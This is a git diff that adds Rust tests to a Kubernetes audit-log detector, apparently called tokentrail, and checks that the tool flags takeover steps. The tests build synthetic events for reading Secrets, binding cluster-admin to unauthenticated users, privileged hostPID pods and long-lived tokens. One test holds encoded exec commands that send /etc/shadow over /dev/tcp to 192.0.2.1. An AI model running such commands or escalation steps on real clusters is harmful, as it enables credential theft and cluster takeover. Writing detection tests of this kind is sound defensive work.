@@ -3,8 +3,9 @@
 #[expect(dead_code, reason = "the tests share more than each of them uses")]
 mod common;
 
-use common::{DAY, Request, SECOND, alarms, feed, run};
-use tokentrail::detect::Policy;
+use common::{DAY, MINUTE, Request, SECOND, alarms, feed, last, run};
+use serde_json::{Value, json};
+use tokentrail::detect::{Policy, Severity};
 use tokentrail::engine::{Engine, Output};
 
 fn stock() -> Request {
@@ -98,4 +99,164 @@ fn an_exec_without_a_start_is_judged_though_others_have_one() {
     let told_of_one = seen(vec![enter("dev", begun)]);
     assert!(told_of_one > 0);
     assert!(seen(vec![enter("dev", begun), enter("prod", over)]) > told_of_one);
+}
+
+fn user(name: &str) -> Request {
+    let (user, credential) = (name.to_owned(), "X509SHA256=ab".to_owned());
+    Request { user, credential, uid: "", agent: "curl/8".into(), ..Request::of_pod("x:y", "", "10.251.7.7") }
+}
+
+/// The line of a request, changed by hand.
+fn edited(request: &Request, at: i64, change: impl FnOnce(&mut Value)) -> String {
+    let mut event: Value = serde_json::from_str(&request.line(at)).unwrap();
+    change(&mut event);
+    event.to_string()
+}
+
+fn with_body(request: &Request, at: i64, group: &str, body: Value) -> String {
+    edited(request, at, |event| {
+        event["level"] = json!("Request");
+        event["objectRef"]["apiGroup"] = json!(group);
+        event["requestObject"] = body;
+    })
+}
+
+fn exec(who: &Request, at: i64, query: &str) -> String {
+    edited(&who.clone().does("create", "pods/exec", "vault", "vault-0"), at, |event| {
+        event["stage"] = json!("ResponseStarted");
+        event["requestURI"] = json!(format!("/api/v1/namespaces/vault/pods/vault-0/exec?{query}"));
+    })
+}
+
+/// All that was found, as `detector: title`.
+fn found(lines: &[String]) -> Vec<(Severity, String)> {
+    let out = run(&Policy::default(), lines.iter().map(String::as_str));
+    let incidents = last(&out);
+    let all = incidents.values().flat_map(|i| &i.findings);
+    all.map(|f| (f.severity, format!("{}: {}; {}", f.detector, f.title, f.observed))).collect()
+}
+
+/// The steps from an administrator's certificate to everything.
+fn takes_over(who: &Request) -> Vec<(&'static str, String)> {
+    let at = |n: i64| n * SECOND;
+    let rbac = "rbac.authorization.k8s.io";
+    let everybody = json!({"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
+        "subjects": [{"kind": "Group", "name": "system:unauthenticated"}]});
+    let pod =
+        json!({"spec": {"hostPID": true, "containers": [{"name": "x", "securityContext": {"privileged": true}}]}});
+    let token = json!({"spec": {"expirationSeconds": 31_536_000}});
+    let of = |verb: &str, resource: &str, namespace: &str| who.clone().does(verb, resource, namespace, "x");
+    vec![
+        ("reads Secrets", of("list", "secrets", "").line(at(0))),
+        ("enters pods", exec(who, at(1), "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fx%2Ftoken")),
+        ("changes RBAC", with_body(&of("create", "clusterrolebindings", ""), at(2), rbac, everybody)),
+        ("power over its node", with_body(&of("create", "deployments", "kube-system"), at(3), "apps", pod_of(pod))),
+        ("mints tokens", with_body(&of("create", "serviceaccounts/token", "shelf"), at(4), "", token)),
+    ]
+}
+
+fn pod_of(pod: Value) -> Value {
+    json!({"spec": {"template": pod}})
+}
+
+#[test]
+fn a_name_of_the_system_excuses_nobody() {
+    for name in ["system:admin", "system:evil", "system:kube-proxy", "system:kube-scheduler"] {
+        for (what, line) in takes_over(&user(name)) {
+            let told = found(&[line]);
+            assert!(told.iter().any(|(s, text)| *s >= Severity::Low && text.contains(what)), "{name} {what}: {told:?}");
+        }
+    }
+}
+
+#[test]
+fn what_a_component_never_does_is_an_alarm_without_a_baseline() {
+    for name in ["system:kube-controller-manager", "system:kube-scheduler", "system:apiserver"] {
+        for (what, line) in takes_over(&user(name)) {
+            let own = what == "reads Secrets" && name == "system:kube-controller-manager";
+            let told = found(&[line]);
+            assert_eq!(told.iter().any(|(s, _)| *s >= Severity::Medium), !own, "{name} {what}: {told:?}");
+        }
+    }
+}
+
+#[test]
+fn a_component_of_the_control_plane_at_its_work_is_no_news() {
+    let manager = Request { agent: "kube-controller-manager/v1.36.2".into(), ..user("system:kube-controller-manager") };
+    let of = |verb: &str, resource: &str, namespace: &str| manager.clone().does(verb, resource, namespace, "x");
+    let pod = json!({"spec": {"containers": [{"name": "x", "securityContext": {"privileged": true}}]}});
+    let inside = Request { ip: "::1".into(), credential: String::new(), ..user("system:apiserver") };
+    let lines = [
+        of("list", "secrets", "").line(0),
+        of("update", "secrets", "shelf").line(SECOND),
+        of("create", "serviceaccounts/token", "kube-system").line(2 * SECOND),
+        with_body(&of("create", "pods", "kube-system"), 3 * SECOND, "", pod),
+        of("delete", "rolebindings", "shelf").line(4 * SECOND),
+        with_body(
+            &inside.clone().does("create", "apiservices", "", "v1.x"),
+            5 * SECOND,
+            "apiregistration.k8s.io",
+            json!({}),
+        ),
+        with_body(
+            &inside.does("create", "clusterrolebindings", "", "x"),
+            6 * SECOND,
+            "rbac.authorization.k8s.io",
+            json!({}),
+        ),
+    ];
+    assert_eq!(found(&lines), []);
+}
+
+#[test]
+fn a_component_that_comes_from_outside_is_told() {
+    let at_home = Request { agent: "kube-scheduler/v1.36.2".into(), ..user("system:kube-scheduler") }
+        .does("list", "pods", "", "");
+    let away = Request { ip: "192.0.2.9".into(), ..at_home.clone() };
+    let mut lines: Vec<String> = (0..20).map(|n| at_home.line(n * MINUTE)).collect();
+    lines.extend(
+        (2..6).map(|pod| Request::of_pod("shelf:bell", &format!("pod-{pod}"), &format!("10.251.0.{pod}")).line(pod)),
+    );
+    lines.push(away.line(30 * MINUTE));
+    let told = found(&lines);
+    assert!(told.iter().any(|(s, text)| *s >= Severity::Medium && text.contains("unknown-origin")), "{told:?}");
+}
+
+#[test]
+fn whoever_sends_a_command_does_not_choose_what_is_hidden() {
+    for query in [
+        "command=sh&command=-c&command=eval+%22%240%22+%23secret&command=cat+%2Fetc%2Fshadow+%3E+%2Fdev%2Ftcp%2F192.0.2.1%2F9",
+        "command=sh&command=-c&command=secret%3Dcat%2Fetc%2Fshadow%3Bcat+%2Fetc%2Fshadow+%3E%2Fdev%2Ftcp%2F192.0.2.1%2F9",
+        "command=sh&command=--token&command=cat%3C%2Fetc%2Fshadow%3E%2Fdev%2Ftcp%2F192.0.2.1%2F9",
+        "%63ommand=cat&command=%2Fetc%2Fshadow&c%6Fmmand=%2Fdev%2Ftcp%2F192.0.2.1%2F9",
+    ] {
+        let told = found(&[exec(&stock(), 0, query)]);
+        let one = told.iter().find(|(_, text)| text.starts_with("dangerous-request")).map_or("", |(_, text)| text);
+        assert!(one.contains("opens a shell to somewhere else"), "{query}: {told:?}");
+        assert!(one.contains("reads a token or key file"), "{query}: {told:?}");
+    }
+}
+
+#[test]
+fn padding_of_a_body_is_told_and_hides_nothing() {
+    let args: Vec<&str> = vec!["a"; 60_000];
+    let pod = json!({"spec": {"containers": [{"name": "a", "args": args}, {"name": "b", "securityContext": {"privileged": true}}]}});
+    let told = found(&[with_body(&stock().does("create", "pods", "shelf", "x"), 0, "", pod)]);
+    assert!(told.iter().any(|(_, text)| text.contains("a body that cannot be looked at whole")), "{told:?}");
+    assert!(told.iter().any(|(_, text)| text.contains("power over its node")), "{told:?}");
+}
+
+#[test]
+fn what_answers_for_an_api_and_where_kubelets_are_is_told_cold() {
+    for (group, resource, what) in [
+        ("apiregistration.k8s.io", "apiservices", "changes which server answers for an API"),
+        ("apiextensions.k8s.io", "customresourcedefinitions", "changes custom kinds"),
+        ("", "nodes", "changes Nodes"),
+        ("", "nodes/status", "changes Nodes"),
+    ] {
+        let told = found(&[with_body(&stock().does("patch", resource, "", "x"), 0, group, json!({}))]);
+        assert!(told.iter().any(|(s, text)| *s >= Severity::Low && text.contains(what)), "{resource}: {told:?}");
+    }
+    let kubelet = Request::of_node("node-a", "10.251.0.1").does("patch", "nodes/status", "", "node-a");
+    assert_eq!(found(&[kubelet.line(0)]), []);
 }
